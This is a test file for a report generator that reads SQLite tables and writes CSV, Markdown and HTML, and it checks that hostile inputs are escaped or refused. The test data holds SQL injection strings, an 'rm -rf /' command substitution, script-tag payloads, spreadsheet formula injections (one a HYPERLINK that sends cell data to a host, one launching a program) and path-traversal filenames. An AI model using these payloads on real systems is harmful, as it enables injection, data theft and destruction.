"""report-generation against real SQLite files: metrics, windows, formats, hostile input."""

from __future__ import annotations

import csv
import io
import itertools
import re
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from job_runner.execute import execute
from job_runner.template import DeadlineExceeded, RunContext
from job_runner.templates.report_generation import ReportGeneration, ReportParameters

HOSTILE_IDENTIFIERS = ['a"b', "total; DROP TABLE orders", "total--", "$(id)", "`id`",
                       "a\nb", "total\n", "a\x00b", "a b", "1abc"]
HOSTILE_CELL = 'a|b <script>alert("x")</script>\nnext'
HOSTILE_TITLE = "Q1 | <script>alert('t')</script>\n# \"sales\" & more"
ALL_METRICS = [
    {"function": "count", "as": "n"},
    {"function": "count", "column": "total", "as": "priced"},
    {"function": "sum", "column": "total", "as": "revenue"},
    {"function": "avg", "column": "total", "as": "average"},
    {"function": "min", "column": "total", "as": "smallest"},
    {"function": "max", "column": "total", "as": "largest"},
    {"function": "countDistinct", "column": "customer", "as": "customers"},
]


def no_secrets(ref):
    raise AssertionError("no secrets expected")


def ago(**delta: float) -> datetime:
    return datetime.now(UTC) - timedelta(**delta)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """Six orders; `created_at` is ISO-8601 text for some rows and Unix seconds for others."""
    path = tmp_path / "shop.sqlite3"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, region TEXT, customer TEXT, "
                     "total REAL, status TEXT, created_at)")
        conn.executemany("INSERT INTO orders VALUES (?, ?, ?, ?, ?, ?)", [
            (1, "eu", "alice", 10.0, "paid", ago(hours=1).isoformat()),
            (2, "eu", "bob", 20.0, "paid", ago(hours=2).isoformat()),
            (3, "eu", "alice", 30.0, "refunded", ago(days=10).isoformat()),
            (4, "us", "carol", 5.0, "paid", int(ago(hours=3).timestamp())),
            (5, "us", "carol", 15.0, "paid", int(ago(days=20).timestamp())),
            (6, "apac", "dave", None, "paid", ago(hours=4).isoformat()),
        ])
    conn.close()
    return path


@pytest.fixture
def out(tmp_path: Path) -> Path:
    directory = tmp_path / "reports"
    directory.mkdir()
    return directory


def report(db: Path, out: Path, **overrides: Any) -> dict[str, Any]:
    return {"connection": {"driver": "sqlite", "path": str(db)}, "table": "orders",
            "groupBy": ["region"], "metrics": [{"function": "count", "as": "n"}],
            "format": "csv", "destination": {"directory": str(out), "filename": "r.txt"},
            **overrides}


def generate(params: dict[str, Any], **kwargs: Any):
    return execute(ReportGeneration, params, run_id="r", timeout_seconds=30,
                   secrets=no_secrets, **kwargs)


def written(out: Path) -> str:
    return (out / "r.txt").read_text()


def csv_lines(out: Path) -> list[str]:
    return written(out).splitlines()


def test_every_metric_function_per_group(db: Path, out: Path):
    outcome = generate(report(db, out, metrics=ALL_METRICS))
    assert outcome.result == "Succeeded", outcome.message
    assert csv_lines(out) == [
        "region,n,priced,revenue,average,smallest,largest,customers",
        "apac,1,0,,,,,1",
        "eu,3,3,60.0,20.0,10.0,30.0,2",
        "us,2,2,20.0,10.0,5.0,15.0,1",
    ]
    target = out / "r.txt"
    assert outcome.outputs == {
        "rows": 3, "columns": ["region", "n", "priced", "revenue", "average", "smallest",
                               "largest", "customers"],
        "path": str(target), "bytes": target.stat().st_size, "format": "csv",
    }
    assert [p.name for p in out.iterdir()] == ["r.txt"]  # no temp file left behind


def test_no_group_by_is_one_row_over_the_table(db: Path, out: Path):
    metrics = [{"function": "sum", "column": "total", "as": "revenue"},
               {"function": "countDistinct", "column": "region", "as": "regions"}]
    outcome = generate(report(db, out, groupBy=[], metrics=metrics))
    assert outcome.result == "Succeeded", outcome.message
    assert csv_lines(out) == ["revenue,regions", "80.0,3"]


def test_filters_are_anded_and_bound(db: Path, out: Path):
    filters = [{"column": "status", "op": "eq", "value": "paid"},
               {"column": "region", "op": "in", "value": ["eu", "us"]},
               {"column": "total", "op": "isNull", "value": False}]
    metrics = [{"function": "count", "as": "n"},
               {"function": "sum", "column": "total", "as": "revenue"}]
    outcome = generate(report(db, out, filters=filters, metrics=metrics))
    assert outcome.result == "Succeeded", outcome.message
    assert csv_lines(out) == ["region,n,revenue", "eu,2,30.0", "us,2,20.0"]


@pytest.mark.parametrize("value", ["x'; DROP TABLE orders; --", 'a"b', "$(rm -rf /)", "`id`",
                                   "a\nb", "\x00"])
def test_hostile_filter_values_match_nothing(db: Path, out: Path, value: str):
    outcome = generate(report(db, out, filters=[{"column": "region", "op": "eq",
                                                 "value": value}]))
    assert outcome.result == "Succeeded" and outcome.outputs["rows"] == 0
    assert csv_lines(out) == ["region,n"]
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM orders").fetchone()[0] == 6


def test_since_window_reads_iso_text_and_unix_seconds(db: Path, out: Path):
    before = datetime.now(UTC).replace(microsecond=0)
    outcome = generate(report(db, out, since={"column": "created_at", "lookbackHours": 24}))
    after = datetime.now(UTC)
    assert outcome.result == "Succeeded", outcome.message
    # eu: rows 1 and 2 (ISO text, row 3 is too old); us: row 4 (Unix seconds, not row 5)
    assert csv_lines(out) == ["region,n", "apac,1", "eu,2", "us,1"]
    start = datetime.fromisoformat(outcome.outputs["windowStart"])
    assert before - timedelta(hours=24) <= start <= after - timedelta(hours=24)


def test_order_by_a_metric_descending_with_limit(db: Path, out: Path):
    metrics = [{"function": "sum", "column": "total", "as": "revenue"}]
    ordered = report(db, out, metrics=metrics, limit=2,
                     orderBy=[{"column": "revenue", "direction": "desc"}])
    outcome = generate(ordered)
    assert outcome.result == "Succeeded", outcome.message
    assert csv_lines(out) == ["region,revenue", "eu,60.0", "us,20.0"]
    ordered["orderBy"] = [{"column": "revenue"}]
    ordered["limit"] = 3
    assert generate(ordered).result == "Succeeded"
    assert csv_lines(out) == ["region,revenue", "us,20.0", "eu,60.0", "apac,"]  # NULLs last


def windowed_report(db: Path, out: Path, fmt: str, **overrides: Any):
    """A report with a window, so its generation time is known: windowStart + 24 hours."""
    params = report(db, out, format=fmt, since={"column": "created_at", "lookbackHours": 24},
                    metrics=[{"function": "count", "as": "n"},
                             {"function": "sum", "column": "total", "as": "total_sum"}],
                    **overrides)
    outcome = generate(params)
    assert outcome.result == "Succeeded", outcome.message
    start = datetime.fromisoformat(outcome.outputs["windowStart"])
    stamp = "%Y-%m-%d %H:%M:%S UTC"
    return (start + timedelta(hours=24)).strftime(stamp), start.strftime(stamp)


def test_markdown_report_exactly(db: Path, out: Path):
    generated, start = windowed_report(db, out, "markdown", title="Orders_by region")
    assert written(out) == (
        "# Orders\\_by region\n"
        "\n"
        f"Generated {generated}. Window: created\\_at from {start}.\n"
        "\n"
        "| region | n | total\\_sum |\n"
        "| --- | --- | --- |\n"
        "| apac | 1 |  |\n"
        "| eu | 2 | 30.0 |\n"
        "| us | 1 | 5.0 |\n"
    )


def test_html_report_exactly(db: Path, out: Path):
    generated, start = windowed_report(db, out, "html", title="Orders by region")
    page = written(out)
    head, body = page.split("</head>\n")
    assert head.startswith('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n'
                           "<title>Orders by region</title>\n<style>")
    assert body == (
        "<body>\n"
        "<h1>Orders by region</h1>\n"
        f"<p>Generated {generated}. Window: created_at from {start}.</p>\n"
        "<table>\n"
        "<thead><tr><th>region</th><th>n</th><th>total_sum</th></tr></thead>\n"
        "<tbody>\n"
        "<tr><td>apac</td><td>1</td><td></td></tr>\n"
        "<tr><td>eu</td><td>2</td><td>30.0</td></tr>\n"
        "<tr><td>us</td><td>1</td><td>5.0</td></tr>\n"
        "</tbody>\n"
        "</table>\n"
        "</body>\n"
        "</html>\n"
    )


def test_markdown_without_window_says_when_it_was_made(db: Path, out: Path):
    before = datetime.now(UTC).replace(microsecond=0)
    assert generate(report(db, out, format="markdown", groupBy=[])).result == "Succeeded"
    after = datetime.now(UTC)
    heading, blank, made, *table = written(out).splitlines()
    assert (heading, blank, table) == ("# orders", "", ["", "| n |", "| --- |", "| 6 |"])
    match = re.fullmatch(r"Generated (.+) UTC\.", made)
    assert match, made
    moment = datetime.strptime(match[1], "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)
    assert before <= moment <= after


@pytest.fixture
def hostile_db(db: Path) -> Path:
    with sqlite3.connect(db) as conn:
        conn.execute("INSERT INTO orders VALUES (7, ?, 'eve', 1, 'paid', ?)",
                     (HOSTILE_CELL, ago(hours=1).isoformat()))
    conn.close()
    return db


def test_markdown_escapes_hostile_cells_and_title(hostile_db: Path, out: Path):
    params = report(hostile_db, out, format="markdown", title=HOSTILE_TITLE,
                    filters=[{"column": "id", "op": "eq", "value": 7}])
    assert generate(params).result == "Succeeded"
    lines = written(out).splitlines()
    assert lines[0] == "# Q1 \\| \\<script\\>alert('t')\\</script\\> \\# \"sales\" \\& more"
    assert lines[-1] == '| a\\|b \\<script\\>alert("x")\\</script\\> next | 1 |'
    assert len(lines) == 7  # heading, blank, caption, blank, header, rule, one row


def test_html_escapes_hostile_cells_and_title(hostile_db: Path, out: Path):
    params = report(hostile_db, out, format="html", title=HOSTILE_TITLE,
                    filters=[{"column": "id", "op": "eq", "value": 7}])
    assert generate(params).result == "Succeeded"
    page = written(out)
    title = "Q1 | &lt;script&gt;alert(&#x27;t&#x27;)&lt;/script&gt; # &quot;sales&quot; &amp; more"
    assert f"<title>{title}</title>" in page and f"<h1>{title}</h1>" in page
    assert ("<tr><td>a|b &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; next</td>"
            "<td>1</td></tr>") in page
    assert "<script" not in page


def test_csv_keeps_hostile_cells_as_quoted_data(hostile_db: Path, out: Path):
    params = report(hostile_db, out, filters=[{"column": "id", "op": "eq", "value": 7}])
    assert generate(params).result == "Succeeded"
    assert written(out) == 'region,n\n"a|b <script>alert(""x"")</script>\nnext",1\n'


@pytest.mark.parametrize("formula", ['=HYPERLINK("https://x/?"&A2,"open")', "+1+2",
                                     "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tx"])
def test_csv_cells_a_spreadsheet_would_run_are_text(db: Path, out: Path, formula: str):
    with sqlite3.connect(db) as conn:
        conn.execute("INSERT INTO orders VALUES (8, ?, 'eve', -5, 'paid', ?)",
                     (formula, ago(hours=1).isoformat()))
    conn.close()
    params = report(db, out, groupBy=["region"], metrics=[
        {"function": "sum", "column": "total", "as": "revenue"}],
        filters=[{"column": "id", "op": "eq", "value": 8}])
    assert generate(params).result == "Succeeded"
    row = next(csv.reader(io.StringIO(written(out).split("\n", 1)[1])))
    assert row == ["'" + formula, "-5.0"], "text gets an apostrophe, a negative number not"


def test_a_window_over_a_text_column_reads_digits_as_unix_seconds(tmp_path: Path, out: Path):
    """A TEXT column stores Unix seconds as text; strftime would take them for Julian days."""
    path = tmp_path / "events.sqlite3"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE events (kind TEXT, at TEXT)")
        conn.executemany("INSERT INTO events VALUES (?, ?)", [
            ("recent", int(ago(hours=1).timestamp())), ("old", int(ago(days=3).timestamp())),
            ("recent", ago(hours=2).isoformat())])
    conn.close()
    params = {"connection": {"driver": "sqlite", "path": str(path)}, "table": "events",
              "groupBy": ["kind"], "metrics": [{"function": "count", "as": "n"}],
              "since": {"column": "at", "lookbackHours": 24}, "format": "csv",
              "destination": {"directory": str(out), "filename": "r.txt"}}
    assert generate(params).result == "Succeeded"
    assert written(out) == "kind,n\nrecent,2\n"


def test_rows_tied_on_the_ordering_metric_come_in_group_order(db: Path, out: Path):
    params = report(db, out, groupBy=["customer"], metrics=[{"function": "count", "as": "n"}],
                    orderBy=[{"column": "n", "direction": "desc"}], limit=3)
    assert generate(params).result == "Succeeded"
    assert [line.split(",")[0] for line in written(out).splitlines()[1:]] == [
        "alice", "carol", "bob"], "alice and carol have 2 each; bob and dave 1, bob first"


def set_at(params: dict[str, Any], path: str, value: Any) -> None:
    """Set the parameter a message names, e.g. ``metrics[0].as``."""
    keys: list[Any] = [int(step[1:-1]) if step.startswith("[") else step
                       for step in re.findall(r"\w+|\[\d+\]", path)]
    container: Any = params
    for key in keys[:-1]:
        container = container[key]
    container[keys[-1]] = value


@pytest.mark.parametrize("path", [
    "table", "groupBy[0]", "metrics[0].column", "metrics[0].as", "filters[0].column",
    "since.column", "orderBy[0].column",
])
@pytest.mark.parametrize("name", HOSTILE_IDENTIFIERS)
def test_hostile_identifiers_are_refused_naming_the_field(db: Path, out: Path, path: str,
                                                         name: str):
    params = report(db, out, filters=[{"column": "status", "op": "eq", "value": "paid"}],
                    since={"column": "created_at", "lookbackHours": 1},
                    metrics=[{"function": "sum", "column": "total", "as": "revenue"}],
                    orderBy=[{"column": "revenue"}])
    set_at(params, path, name)
    outcome = generate(params)
    assert outcome.result == "Failed"
    assert f"parameters.{path}" in outcome.message, outcome.message
    assert not outcome.attempts and list(out.iterdir()) == []


@pytest.mark.parametrize(("change", "path", "words"), [
    ({"metrics": [{"function": "sum", "as": "s"}]}, "metrics[0]", "'sum' needs a column"),
    ({"metrics": [{"function": "count", "as": "region"}]}, "parameters",
     "name a report column twice: region"),
    ({"groupBy": ["region", "region"]}, "groupBy", "unique"),
    ({"orderBy": [{"column": "total"}]}, "parameters",
     "orderBy 'total' is neither a groupBy column nor a metric"),
    ({"limit": 10_001}, "limit", "10000"),
    ({"metrics": []}, "metrics", ""),
    ({"format": "pdf"}, "format", ""),
    ({"title": "x" * 201}, "title", ""),
])
def test_inconsistent_parameters_are_refused(db: Path, out: Path, change: dict, path: str,
                                             words: str):
    outcome = generate(report(db, out, **change))
    assert outcome.result == "Failed" and not outcome.attempts
    assert path in outcome.message and words in outcome.message, outcome.message


@pytest.mark.parametrize("filename", [
    "../evil.csv", "%2e%2e", "..", "/etc/passwd", "a/b.csv", ".hidden", "r\x00.csv", "r.csv\n",
])
def test_destination_outside_the_directory_is_refused(db: Path, out: Path, filename: str):
    params = report(db, out)
    params["destination"]["filename"] = filename
    outcome = generate(params)
    assert outcome.result == "Failed"
    assert "parameters.destination.filename" in outcome.message
    assert list(out.iterdir()) == [] and not (out.parent / "evil.csv").exists()


@pytest.mark.parametrize("directory", ["relative/reports", "/tmp/../etc", "/tmp/\x00x"])
def test_bad_destination_directories_are_refused(db: Path, out: Path, directory: str):
    params = report(db, out)
    params["destination"]["directory"] = directory
    outcome = generate(params)
    assert outcome.result == "Failed"
    assert "parameters.destination.directory" in outcome.message


def test_a_symlink_at_the_destination_is_not_followed(db: Path, out: Path, tmp_path: Path):
    outside = tmp_path / "outside.txt"
    outside.write_text("keep")
    (out / "r.txt").symlink_to(outside)
    outcome = generate(report(db, out))
    assert outcome.result == "Failed" and "symlink" in outcome.message
    assert outside.read_text() == "keep"


def test_file_name_placeholders(db: Path, out: Path):
    params = report(db, out)
    params["destination"]["filename"] = "orders-{date}-{runId}.csv"
    outcome = execute(ReportGeneration, params, run_id="w/../1", timeout_seconds=30,
                      secrets=no_secrets)
    assert outcome.result == "Succeeded", outcome.message
    name = Path(outcome.outputs["path"]).name
    assert re.fullmatch(r"orders-\d{4}-\d{2}-\d{2}-w____1\.csv", name)
    assert (out / name).read_text().startswith("region,n\n")


def test_dry_run_shows_the_query_shape_and_writes_nothing(db: Path, out: Path):
    params = report(db, out, metrics=ALL_METRICS[:3] + ALL_METRICS[-1:],
                    since={"column": "created_at", "lookbackHours": 24},
                    orderBy=[{"column": "revenue", "direction": "desc"}], format="html")
    outcome = generate(params, dry_run=True)
    assert outcome.result == "Succeeded", outcome.message
    window_start = outcome.outputs.pop("windowStart")
    assert datetime.fromisoformat(window_start) < datetime.now(UTC) - timedelta(hours=23)
    assert outcome.outputs == {
        "columns": ["region", "n", "priced", "revenue", "customers"],
        "groupBy": ["region"],
        "metrics": ["count(*) AS n", "count(total) AS priced", "sum(total) AS revenue",
                    "count(DISTINCT customer) AS customers"],
        "orderBy": ["revenue desc", "region asc"], "limit": 1000, "path": str(out / "r.txt"),
        "format": "html",
    }
    assert list(out.iterdir()) == []


@pytest.mark.parametrize(("change", "missing"), [
    ({"groupBy": ["regoin"]}, "regoin"),
    ({"metrics": [{"function": "sum", "column": "totl", "as": "s"}]}, "totl"),
    ({"filters": [{"column": "stauts", "op": "eq", "value": "paid"}]}, "stauts"),
    ({"since": {"column": "created", "lookbackHours": 1}}, "created"),
])
@pytest.mark.parametrize("dry_run", [False, True])
def test_unknown_columns_are_refused_by_name(db: Path, out: Path, change: dict, missing: str,
                                             dry_run: bool):
    """SQLite would read an unknown double-quoted name as a string: refused before the query."""
    outcome = generate(report(db, out, **change), dry_run=dry_run)
    assert outcome.result == "Failed"
    assert f"table 'orders' has no column '{missing}'" in outcome.message
    assert "its columns: created_at, customer, id, region, status, total" in outcome.message
    assert list(out.iterdir()) == []


def test_missing_table_is_a_clear_failure(db: Path, out: Path):
    outcome = generate(report(db, out, table="nope"))
    assert outcome.result == "Failed" and "table 'nope' does not exist" in outcome.message


def test_a_long_sqlite_query_stops_at_the_deadline(tmp_path: Path, out: Path):
    """The run's clock moves one tick per look: the query is interrupted from inside SQLite
    once the deadline passes, and no report is written."""
    path = tmp_path / "big.sqlite3"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE orders (region TEXT, total REAL)")
        conn.execute("WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n "
                      "WHERE i < 199999) INSERT INTO orders SELECT 'r' || (i % 97), i FROM n")
    conn.close()
    params = ReportParameters.model_validate(report(path, out, metrics=[
        {"function": "sum", "column": "total", "as": "s"}]))
    ticks = itertools.count()
    ctx = RunContext(run_id="r", deadline=20, clock=lambda: next(ticks))
    with pytest.raises(DeadlineExceeded):
        ReportGeneration().run(params, ctx)
    assert list(out.iterdir()) == []
    assert next(ticks) < 100  # stopped soon after the deadline, not after the whole scan
